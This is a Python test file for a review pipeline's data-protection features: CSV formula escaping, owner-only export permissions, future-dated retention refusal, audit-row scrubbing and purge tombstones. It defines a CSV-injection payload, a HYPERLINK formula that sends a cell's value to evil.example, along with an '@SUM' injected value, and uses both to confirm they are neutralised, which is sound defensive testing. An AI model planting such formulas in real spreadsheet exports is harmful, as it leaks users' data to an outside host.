"""Data leaving and staying: formula cells in CSV, world-readable exports, retention run as of
the future, decisions and emails left in audit rows, platform ids left in purge tombstones."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select, text
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from pipeline import review
from pipeline.audit.outputs import safe_cell
from pipeline.audit.search import search, to_csv
from pipeline.audit.trail import record
from pipeline.cli import app
from pipeline.clock import now
from pipeline.db.models import AuditEvent, Flag, Post
from pipeline.privacy.purge import purge_account_content
from pipeline.privacy.retention import run_retention
from pipeline.reports import runner as reports
from tests.factories import NOW, World

cli = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_a_formula_stays_text(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(-3) == -3 and safe_cell("Comms") == "Comms"


def test_report_and_audit_csvs_do_not_carry_formulas(world: World, db: Session) -> None:
    for i in range(5):
        person = world.person(f"p{i}", org_unit=FORMULA, band="staff")
        world.flag(world.post(world.account(person), f"Post {i}", days_ago=3))
    record(db, "auth.login", actor="@SUM(1+1)")
    db.commit()
    period = {"date_from": NOW - timedelta(days=30), "date_to": NOW + timedelta(days=1)}
    rows = list(
        csv.reader(io.StringIO(reports.to_csv(reports.run_report("flags_by_org_unit", **period))))
    )
    assert rows[1][0] == "'" + FORMULA  # nothing lost: the value follows the quote
    audit = list(csv.DictReader(io.StringIO(to_csv(search(db)))))
    assert audit[0]["actor"] == "'@SUM(1+1)"


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_exports_and_report_files_are_readable_by_their_owner_only(
    world: World, db: Session, tmp_path: Path
) -> None:
    world.person("ana")
    db.commit()
    old = os.umask(0)  # even a permissive umask gives no one else a copy
    try:
        out = tmp_path / "ana.json"
        out.write_text("an older export\n")
        out.chmod(0o644)
        person = cli.invoke(app, ["export", "person", "ana@example.org", "--out", str(out)])
        decisions = cli.invoke(app, ["export", "decisions", "-o", str(tmp_path / "d.jsonl")])
        written = reports.write_reports(tmp_path / "reports")
    finally:
        os.umask(old)
    assert person.exit_code == 0 and decisions.exit_code == 0, person.output + decisions.output
    assert '"email": "ana@example.org"' in out.read_text()
    for path in [out, tmp_path / "d.jsonl", *written.values()]:
        assert _mode(path) == 0o600, path
    assert not [p for p in tmp_path.rglob("*.tmp")]  # no temporary file left behind


def _decided_today(world: World, db: Session) -> Flag:
    ana = world.person("ana")
    world.consent(ana)
    flag = world.flag(world.post(world.account(ana), "Vote Purple."), closed=now())
    world.review(flag, world.user("rev@example.org"), "advise", at=now())
    db.commit()
    return flag


def test_retention_as_of_the_future_is_refused_and_deletes_nothing(
    world: World, db: Session
) -> None:
    flag = _decided_today(world, db)
    future = (now() + timedelta(days=3 * 365)).strftime("%Y-%m-%d")

    result = cli.invoke(app, ["retention", "run", "--at", future])

    assert result.exit_code == 2
    assert "in the future" in result.output
    db.expire_all()
    assert db.get(Flag, flag.id) is not None
    # a dry run may look ahead, and changes nothing
    assert cli.invoke(app, ["retention", "run", "--dry-run", "--at", future]).exit_code == 0
    assert db.get(Flag, flag.id) is not None


def test_audit_rows_about_a_flag_outlive_it_without_the_decision_or_an_email(
    world: World, db: Session
) -> None:
    ana = world.person("ana")
    flag = world.flag(world.post(world.account(ana), "Vote Purple.", days_ago=900))
    flag.created_at = NOW - timedelta(days=900)
    reviewer = world.user("rae@example.org")
    flag_id = flag.id
    db.commit()
    review.claim_next(db, reviewer, at=NOW - timedelta(days=899))
    review.decide(
        db,
        flag.id,
        reviewer,
        decision="advise",
        clause="partisan",
        rationale="Names the Purple Party",
        at=NOW - timedelta(days=899),
    )
    db.commit()
    db.execute(
        text("UPDATE review SET created_at = :at WHERE flag_id = :f"),
        {"at": NOW - timedelta(days=899), "f": flag.id},
    )
    db.commit()

    assert run_retention(db, at=NOW)["decided_flags"] == 1
    db.commit()

    assert db.get(Flag, flag_id) is None
    rows = db.scalars(
        select(AuditEvent).where(AuditEvent.subject_type == "flag", AuditEvent.person_id == ana.id)
    ).all()
    assert {e.action for e in rows} >= {"flag.claim", "flag.decide"}
    stored = " ".join(f"{e.actor} {e.details}" for e in rows)
    for gone in ("rae@example.org", "advise", "Purple", "partisan"):
        assert gone not in stored, gone
    assert {e.actor for e in rows} == {f"user:{reviewer.id}"}
    # an auditor still sees who it was while the user exists
    shown = search(db, action="flag.decide", actor="rae@")
    assert [e["actor"] for e in shown] == ["user:rae@example.org"]


def test_a_purge_tombstone_keeps_no_platform_identifier(world: World, db: Session) -> None:
    ana = world.person("ana")
    account = world.account(ana)
    post = world.post(account, "Vote Purple.")
    original = (post.external_id, post.url)
    flag = world.flag(post)
    world.review(flag, world.user("rev@example.org"), "advise", at=NOW)
    db.commit()

    counts = purge_account_content(db, [account.id], actor="test", reason="consent withdrawn")
    db.commit()

    assert counts["posts_tombstoned"] == 1
    tomb = db.get(Post, post.id)
    assert tomb.text is None and tomb.url is None
    assert tomb.external_id == f"purged:{post.id}"
    assert original[0] not in (tomb.external_id or "")
    assert db.get(Flag, flag.id) is not None  # the decided flag (s.4) is kept
